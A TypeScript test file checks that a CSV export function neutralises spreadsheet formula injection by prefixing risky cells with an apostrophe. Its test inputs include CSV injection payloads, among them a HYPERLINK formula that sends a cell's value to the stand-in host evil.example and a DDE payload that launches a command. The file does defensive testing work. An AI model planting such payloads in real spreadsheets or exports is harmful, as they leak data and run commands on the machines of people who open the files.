import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvHeader, csvLine } from "./csv.js";
import { anExported } from "./testing.js";

/** The component cell of one finding's CSV line, as a spreadsheet or a CSV reader reads it. */
function componentCell(component: string): string | undefined {
  const records: string[][] = parse(csvHeader() + csvLine(anExported({ component, version: "" })));
  const [header, row] = records;
  return row?.[header?.indexOf("component") ?? -1];
}

describe("csvLine", () => {
  it("starts a cell with an apostrophe when it begins as OWASP's list of formula starts, full-width forms included", () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"details")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "\u0000=1+1",
      "＝HYPERLINK(1)",
      "＋1+1",
      "－1+1",
      "＠SUM(1)",
    ];
    expect(formulas.map(componentCell)).toEqual(formulas.map((f) => "'" + f));
    expect(componentCell("log4j-core")).toBe("log4j-core");
  });
});
